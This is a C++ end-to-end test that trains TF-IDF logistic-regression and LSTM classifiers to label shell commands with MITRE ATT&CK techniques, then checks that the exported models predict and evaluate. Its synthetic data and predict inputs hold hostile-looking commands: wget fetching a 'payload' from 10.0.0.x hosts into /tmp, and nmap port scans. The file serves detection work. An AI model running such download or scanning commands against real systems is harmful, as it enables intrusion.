// The classic model kinds end to end: `train` with model.type tfidf_logreg (a C grid cross-validated on
// the training rows, L-BFGS to convergence, counts as sample weights) and model.type lstm (Keras-style
// word tokenizer, early stopping on validation loss with patience 3 and the best weights restored) on a
// counted CSV split 60/20/20 with the rare tail grouped; their exported dirs are then read by `predict`
// and `evaluate` like any other.
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "e2e/e2e_util.h"
#include "test_paths.h"

namespace {

namespace fs = std::filesystem;
using attune::testing::read_json;
using attune::testing::run_tool;
using attune::testing::write;

// Normal shell use seen 1-20 times, T1105 downloads and T1046 scans, and a rare technique (2 observations).
// With `noise`, 45 more rows whose label no word predicts: a model that memorises them grows more
// confident and wrong on validation, so its validation loss turns upwards (what early stopping watches).
std::string counted_csv(bool noise = false) {
  std::string csv = "text,label,count\n";
  const char* normal[] = {"ls -la /var/www/html/", "cat /etc/hostname", "ps aux", "df -h /", "uptime",
                          "cd /home/ctf && ls"};
  for (int i = 0; i < 90; ++i)
    csv += std::string(normal[i % 6]) + " dir" + std::to_string(i) + ",Normal," + std::to_string(1 + i % 20) +
           "\n";
  for (int i = 0; i < 45; ++i)
    csv += "wget http://10.0.0." + std::to_string(i) + ":8000/x" + std::to_string(i) + " -O /tmp/x,T1105," +
           std::to_string(1 + i % 3) + "\n";
  for (int i = 0; i < 45; ++i)
    csv += "nmap -sV -p " + std::to_string(20 + i) + " 10.0.1." + std::to_string(i) + ",T1046," +
           std::to_string(1 + i % 4) + "\n";
  csv += "crontab -l,T1053.003,1\ncrontab -e,T1053.003,1\n";
  const char* labels[] = {"Normal", "T1105", "T1046"};
  if (noise)
    for (int i = 0; i < 45; ++i)
      csv += "echo job" + std::to_string(i) + " started," + labels[(i * 7 + i / 3) % 3] + ",1\n";
  return csv;
}

std::string data_section(const fs::path& csv) {
  return "data:\n"
         "  split: {file: " +
         csv.string() +
         ", train: 0.6, validation: 0.2, test: 0.2, seed: 3}\n"
         "  group_rare: {min_count: 5, label: Z999}\n"
         "  lowercase: true\n"
         "  benign_label: Normal\n";
}

struct Trained {
  fs::path dir;
  nlohmann::json summary;
};

Trained train(const std::string& tag, const std::string& yaml, bool noise = false) {
  const fs::path dir = attune::testing::temp_dir(tag);
  const auto csv = write(dir / "ctf.csv", counted_csv(noise));
  const auto cfg = write(dir / "run.yaml", yaml + data_section(csv));
  const auto run = run_tool("train", {"--config", cfg.string(), "--output", (dir / "run").string()}, {},
                            dir / "train.log");
  EXPECT_EQ(run.status, 0) << run.output;
  return {dir, read_json(dir / "run/run_summary.json")};
}

// predict and evaluate read the exported dir.
void expect_export_serves(const fs::path& dir) {
  const fs::path merged = dir / "run/export/merged";
  const auto predict =
      run_tool("predict",
               {"--model", merged.string(), "--format", "json", "--text",
                "wget http://10.0.0.200:8000/payload -O /tmp/p", "--text", "nmap -sV -p 22 10.0.1.77"},
               {}, dir / "predict.log");
  ASSERT_EQ(predict.status, 0) << predict.output;
  EXPECT_NE(predict.output.find("\"label\":\"T1105\""), std::string::npos) << predict.output;
  EXPECT_NE(predict.output.find("\"label\":\"T1046\""), std::string::npos) << predict.output;
  const auto evaluate = run_tool("evaluate",
                                 {"--model", merged.string(), "--data", (dir / "run/data/test.csv").string(),
                                  "--json", (dir / "eval.json").string()},
                                 {}, dir / "evaluate.log");
  ASSERT_EQ(evaluate.status, 0) << evaluate.output;
  const auto report = read_json(dir / "eval.json");
  // Supports count observations (the count column), as the study reports them.
  EXPECT_GT(report["per_class"]["Normal"]["support"].get<double>(), 18) << report.dump();
}

TEST(ClassicE2E, TfidfLogregCrossValidatesCFitsToConvergenceAndExports) {
  const auto t = train("classic-tfidf",
                       "model:\n  type: tfidf_logreg\n  tfidf_logreg: {C: [0.01, 10], cv_folds: 3}\n"
                       "training: {seed: 4}\n");
  const auto& s = t.summary;
  EXPECT_EQ(s["model_type"], "tfidf_logreg");
  ASSERT_TRUE(s.contains("logreg")) << s.dump();
  EXPECT_EQ(s["logreg"]["grid"].size(), 2u);
  EXPECT_EQ(s["logreg"]["grid"][0]["fold_scores"].size(), 3u);
  EXPECT_TRUE(s["logreg"]["converged"].get<bool>()) << s["logreg"].dump();
  EXPECT_EQ(s["logreg"]["C"], 10.0);  // C 0.01 underfits the three-way split
  EXPECT_EQ(s["logreg"]["sample_weights"], "count column");
  EXPECT_GE(s["test"]["accuracy"].get<double>(), 0.95) << s["test"].dump();
  const fs::path merged = t.dir / "run/export/merged";
  EXPECT_NE(attune::testing::slurp(merged / "README.md").find("library_name: attune"), std::string::npos);
  for (const char* file : {"config.json", "model.safetensors", "tfidf_vectorizer.json", "attune.json"})
    EXPECT_TRUE(fs::exists(merged / file)) << file;
  EXPECT_EQ(read_json(merged / "config.json")["model_type"], "attune-tfidf-logreg");
  EXPECT_FALSE(fs::exists(t.dir / "run/export/adapter"));
  expect_export_serves(t.dir);
  // export --run says why there is nothing to rebuild.
  const auto e = run_tool("export", {"--run", (t.dir / "run").string(), "--out", (t.dir / "again").string()},
                          {}, t.dir / "export.log");
  EXPECT_EQ(e.status, 2) << e.output;
  EXPECT_NE(e.output.find("keeps no checkpoint"), std::string::npos) << e.output;
}

TEST(ClassicE2E, LstmStopsEarlyOnValidationLossAndRestoresTheBestEpoch) {
  const auto t =
      train("classic-lstm",
            "model:\n  type: lstm\n  max_length: 12\n  num_threads: 1\n"
            "  lstm: {num_words: 200, embedding_dim: 16, units: 16, dropout: 0.5}\n"
            "training: {seed: 4, num_train_epochs: 60, per_device_train_batch_size: 8,\n"
            "           learning_rate: 1.0e-2, weight_decay: 0, lr_scheduler_type: constant,\n"
            "           max_grad_norm: 0, early_stopping_patience: 3, metric_for_best_model: eval_loss,\n"
            "           load_best_model_at_end: true, logging_steps: 1000}\n",
            /*noise=*/true);
  const auto& s = t.summary;
  EXPECT_EQ(s["model_type"], "lstm");
  EXPECT_EQ(s["method"], "full");
  ASSERT_TRUE(s["stopped_early"].get<bool>()) << s.dump();
  // Patience 3: three evaluations without a better loss after the best one, whose weights are kept.
  EXPECT_EQ(s["epochs_completed"].get<int>(), s["best_epoch"].get<int>() + 3) << s.dump();
  EXPECT_LT(s["epochs_completed"].get<int>(), 60);
  EXPECT_NEAR(s["validation"]["loss"].get<double>(), s["best_metric"]["eval_loss"].get<double>(), 1e-6);
  EXPECT_GE(s["test"]["accuracy"].get<double>(), 0.75) << s["test"].dump();
  const fs::path merged = t.dir / "run/export/merged";
  EXPECT_TRUE(fs::exists(merged / "word_index.json"));
  EXPECT_EQ(read_json(merged / "config.json")["model_type"], "attune-lstm");
  expect_export_serves(t.dir);
}

}  // namespace
